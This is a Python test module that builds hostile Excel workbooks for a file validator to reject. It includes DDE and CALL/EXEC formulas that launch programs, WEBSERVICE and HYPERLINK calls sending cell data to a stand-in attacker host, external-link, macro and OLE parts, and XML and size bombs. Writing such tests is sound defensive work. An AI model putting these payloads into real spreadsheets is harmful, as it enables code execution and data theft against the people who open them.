"""Excel templates of our own making: what is done to ours, and what shall come of it."""

from __future__ import annotations

from collections.abc import Mapping

from tests.attack.word_templates import (
    BOMB,
    Change,
    Parts,
    Template,
    linked,
    no,
    raw,
    yes,
)
from tests.files.handmade import OFFICE

_BOOK = "xl/workbook.xml"
_SHEET = "xl/worksheets/sheet1.xml"
_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_MILLION = 1_000_000


def _cell(formula: str) -> Change:
    """Put a formula in a cell of the cover sheet."""
    row = f'<row r="30"><c r="B30"><f>{formula}</f><v>0</v></c></row></sheetData>'
    return _swap(_SHEET, "</sheetData>", row)


def _after_cells(xml: str) -> Change:
    return _swap(_SHEET, "</sheetData>", f"</sheetData>{xml}")


def _name(meaning: str) -> Change:
    row = f'<definedName name="Eget" hidden="1">{meaning}</definedName></definedNames>'
    return _swap(_BOOK, "</definedNames>", row)


def _swap(part: str, old: str, new: str) -> Change:
    def change(parts: Parts) -> None:
        text = parts[part].decode()
        assert old in text
        parts[part] = text.replace(old, new, 1).encode()

    return change


def _part(name: str, content: str | bytes, kind: str, link: str, source: str = _BOOK) -> Change:
    def change(parts: Parts) -> None:
        parts[name] = content.encode() if isinstance(content, str) else content
        row = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
        _swap("[Content_Types].xml", "</Types>", row)(parts)
        linked(link, f"/{name}", source, outside=False)(parts)

    return change


def _external(inside: str, target: str) -> Change:
    """Add a link to another workbook or program, as Excel does."""

    def change(parts: Parts) -> None:
        name = "xl/externalLinks/externalLink1.xml"
        held = f'<externalLink xmlns:r="{OFFICE}">{inside}</externalLink>'
        _part(name, held, f"{_TYPE}.externalLink+xml", "externalLink")(parts)
        linked("externalLinkPath", target, name)(parts)

    return change


_FORMULAS: Mapping[str, Template] = {
    **{
        f"excel-formel-{name}": no(_cell(formula), says)
        for name, (formula, says) in {
            "webservice": ('_xlfn.WEBSERVICE("http://ond.se/"&amp;B8)', "funktionen WEBSERVICE"),
            "webservice-gemener": ('webservice("http://ond.se")', "funktionen WEBSERVICE"),
            "image": ('_xlfn.IMAGE("http://ond.se/x.png")', "funktionen IMAGE"),
            "rtd": ('RTD("x",,"y")', "funktionen RTD"),
            "call": ('CALL("kernel32","WinExec","JCJ","calc",0)', "funktionen CALL"),
            "register": ('REGISTER.ID("kernel32","WinExec")', "funktionen REGISTER.ID"),
            "exec": ('EXEC("calc")', "funktionen EXEC"),
            "sql": ('SQL.REQUEST("x")', "funktionen SQL.REQUEST"),
            "aktier": ('_xlfn.STOCKHISTORY("MSFT",1)', "funktionen STOCKHISTORY"),
            "python": ("_xlfn._xlws.PY(0,1)", "funktionen PY"),
            "kub": ('CUBEVALUE("x","y")', "funktionen CUBEVALUE"),
            "översätt": ('_xlfn.TRANSLATE("a")', "funktionen TRANSLATE"),
            "dde-libreoffice": ('DDE("soffice";"x";"y")', "funktionen DDE"),
            "länk-fil": ('HYPERLINK("file:///C:/x")', "funktionen HYPERLINK"),
            "länk-unc": ('HYPERLINK("\\\\ond\\x")', "funktionen HYPERLINK"),
            "länk-räknad": ('HYPERLINK("http://ond.se/"&amp;B8)', "funktionen HYPERLINK"),
            "dde": ("cmd|'/c calc'!A1", "hänvisning till annat än arbetsboken"),
            "annan-bok-nummer": ("[1]Blad1!A1", "hänvisning till annat än arbetsboken"),
            "annan-bok-namn": ("'C:\\mapp\\[x.xlsx]Blad1'!A1", "hänvisning till annat än arbetsboken"),
            "annan-bok-webb": ("'http://ond.se/[x.xlsx]Blad1'!A1", "hänvisning till annat än arbetsboken"),
            "annan-bok-utan-parentes": ("'\\\\ond\\x.xlsx'!Namn", "hänvisning till annat än arbetsboken"),
            "egen-funktion": ("ANNAN.FUNKTION(1)", "funktionen ANNAN.FUNKTION"),
            "i-funktion": ('IF(1=1,WEBSERVICE("http://ond.se"))', "funktionen WEBSERVICE"),
            "med-blanksteg": ('WEBSERVICE ("http://ond.se")', "funktionen WEBSERVICE"),
            "lång": ("1" + "+1" * 20_000, "fler tecken än Excel tar"),
        }.items()
    },
    "excel-namn-webservice": no(_name('_xlfn.WEBSERVICE("http://ond.se")'), "funktionen WEBSERVICE"),
    "excel-namn-annan-bok": no(_name("[1]Blad1!$A$1"), "hänvisning till annat än arbetsboken"),
    "excel-namn-makro": no(_name('EXEC("calc")'), "funktionen EXEC"),
    "excel-villkor": no(_after_cells('<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://ond.se")</formula></cfRule></conditionalFormatting>'), "funktionen WEBSERVICE"),
    "excel-lista": no(_after_cells('<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]Blad1!$A$1</formula1></dataValidation></dataValidations>'), "hänvisning till annat än arbetsboken"),
    "excel-formel-delad": no(_cell('1<x/>+WEBSERVICE("http://ond.se")'), "funktionen WEBSERVICE"),
    "excel-formel-summa": yes(_cell('SUM(B8:B9)&amp;" [1]x!|"')),
    "excel-formel-idag": yes(_cell('TEXT(TODAY(),"yyyy-mm-dd")')),
    "excel-formel-ny": yes(_cell('_xlfn.TEXTJOIN(", ",TRUE,_xlfn._xlws.SORT(B8:B9))')),
    "excel-formel-blad": yes(_cell("'Försättsblad'!B8")),
    "excel-formel-webblänk": yes(_cell('HYPERLINK("https://www.umea.se/","Kommunen")')),
}  # fmt: skip

_LINKS: Mapping[str, Template] = {
    "excel-länk-ut": no(linked("externalLink", "http://ond.se/x.xlsx", _BOOK), "en länk till en annan arbetsbok"),
    "excel-annan-bok": no(_external('<externalBook r:id="rIdX"/>', "file:///C:/x.xlsx"), "en länk till en annan arbetsbok"),
    "excel-dde": no(_external('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "x"), "en länk till en annan arbetsbok"),
    "excel-ole-länk": no(_external('<oleLink r:id="rIdX" progId="Word.Document"/>', "file:///C:/x.docx"), "en länk till en annan arbetsbok"),
    "excel-anslutning": no(_part("xl/connections.xml", "<connections/>", f"{_TYPE}.connections+xml", "connections"), "en anslutning till data"),
    "excel-fråga": no(_part("xl/queryTables/queryTable1.xml", "<queryTable/>", f"{_TYPE}.queryTable+xml", "queryTable", _SHEET), "en fråga till data"),
    "excel-objekt": no(_part("xl/embeddings/oleObject1.bin", b"MZ" * 99, "application/vnd.openxmlformats-officedocument.oleObject", "oleObject", _SHEET), "objekt"),
    "excel-dokument": no(_part("xl/embeddings/x.docx", b"PK" * 99, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "package", _SHEET), "ett inbäddat dokument"),
    "excel-activex": no(_part("xl/activeX/activeX1.xml", "<ocx/>", "application/vnd.ms-office.activeX+xml", "control", _SHEET), "en ActiveX-kontroll"),
    "excel-makron": no(_part("xl/vbaProject.bin", b"x" * 99, "application/vnd.ms-office.vbaProject", "vbaProject"), "innehåller makron"),
    "excel-makron-utan-länk": no(lambda parts: parts.update({"xl/VBAProject.bin": b"x"}), "innehåller makron"),
    "excel-makroblad": no(_part("xl/macrosheets/sheet1.xml", "<xm/>", "application/vnd.ms-excel.macrosheet+xml", "xlMacrosheet"), "gamla Excel-makron"),
    "excel-menyer": no(linked("extensibility", "customUI/x.xml", "", outside=False), "egna menyer"),
    "excel-webbtillägg": no(linked("webextensiontaskpanes", "xl/x.xml", "", outside=False), "ett webbtillägg"),
    "excel-realtid": no(_part("xl/volatileDependencies.xml", "<volTypes/>", f"{_TYPE}.volatileDependencies+xml", "volatileDependencies"), "en okänd del"),
    "excel-bild-länkad": no(linked("image", "http://ond.se/x.png", _SHEET), "en länkad bild"),
    "excel-pivot-utifrån": no(_part("xl/pivotCache/p.xml", "<pivotCacheDefinition/>", f"{_TYPE}.pivotCacheDefinition+xml", "externalLinkPath"), "en okänd del"),
    "excel-bild-vml": no(_part("xl/drawings/v.vml", '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://ond.se/x.png"/></xml>', "application/vnd.openxmlformats-officedocument.vmlDrawing", "vmlDrawing", _SHEET), "en länk"),
    "excel-form-med-makro": no(_part("xl/drawings/drawing9.xml", '<wsDr><sp macro="[0]!Kör"/></wsDr>', "application/vnd.openxmlformats-officedocument.drawing+xml", "drawing", _SHEET), "kör makrot"),
    "excel-länkar-i-annat-skrivsätt": no(lambda parts: parts.update({"xl/worksheets/_RELS/Sheet1.XML.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://ond.se/x.png" TargetMode="External"/></Relationships>'}), "en länkad bild"),
    "excel-länk-fil": no(linked("hyperlink", "file:///C:/x.exe", _SHEET), "en länk"),
    "excel-länk-unc": no(linked("hyperlink", "\\\\ond\\x", _SHEET), "en länk"),
    "excel-länk-bredvid": no(linked("hyperlink", "x.xlsx", _SHEET), "en länk"),
    "excel-länk-webb": yes(linked("hyperlink", "https://www.umea.se/", _SHEET)),
}  # fmt: skip

_PACKAGES: Mapping[str, Template] = {
    **{
        f"excel-doctype-{part.rpartition('/')[2]}": no(_doctype, "DOCTYPE")
        for part in (_BOOK, _SHEET, "xl/styles.xml", "docProps/core.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels")
        for _doctype in [lambda parts, part=part: parts.update({part: BOMB + parts[part].partition(b"?>")[2]})]
    },
    "excel-kommentar": no(_swap("xl/styles.xml", "<fonts", "<!--" + "x" * 20 * _MILLION + "--><fonts"), "för stor|så hårt|tolka"),
    "excel-sammanfogat-allt": no(_after_cells('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'), "går inte att skriva i"),
    "excel-sammanfogat": yes(_after_cells('<mergeCells><mergeCell ref="D1:XFD1048576"/></mergeCells>')),
    "excel-sammanfogat-många": yes(_after_cells("<mergeCells>" + "".join(f'<mergeCell ref="D{n}:XFD{n}"/>' for n in range(40, 20_000)) + "</mergeCells>")),
    "excel-bomb": no(lambda parts: parts.update({"xl/media/x.xml": b" " * 100 * _MILLION}), "för stor|så hårt"),
    "excel-många-delar": no(lambda parts: parts.update({f"xl/media/{n}.png": b"\x89PNG" for n in range(5_000)}), "för stor"),
    "excel-djupt": no(_after_cells("<a>" * 200_000 + "</a>" * 200_000), "byggd|tolka"),
    "excel-samma-namn": no(lambda parts: parts.update({"XL/Workbook.xml": b"<a/>"}), "samma del två gånger"),
    "excel-teckenkodning": no(lambda parts: parts.update({_SHEET: b'<?xml version="1.0" encoding="UTF-7"?><a/>'}), "teckenkodningen"),
    "excel-xlsm": no(_swap("[Content_Types].xml", f"{_TYPE}.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "innehåller makron"),
    "excel-mall": no(_swap("[Content_Types].xml", f"{_TYPE}.sheet.main+xml", f"{_TYPE}.template.main+xml"), "går inte att läsa"),
    "excel-avhuggen": raw(lambda data: data[:-500], "skadad"),
    "excel-text": raw(lambda _: b"a;b\n", "textfil"),
    "excel-tom": raw(lambda _: b"", "tom"),
}  # fmt: skip

EXCEL: Mapping[str, Template] = {**_FORMULAS, **_LINKS, **_PACKAGES}
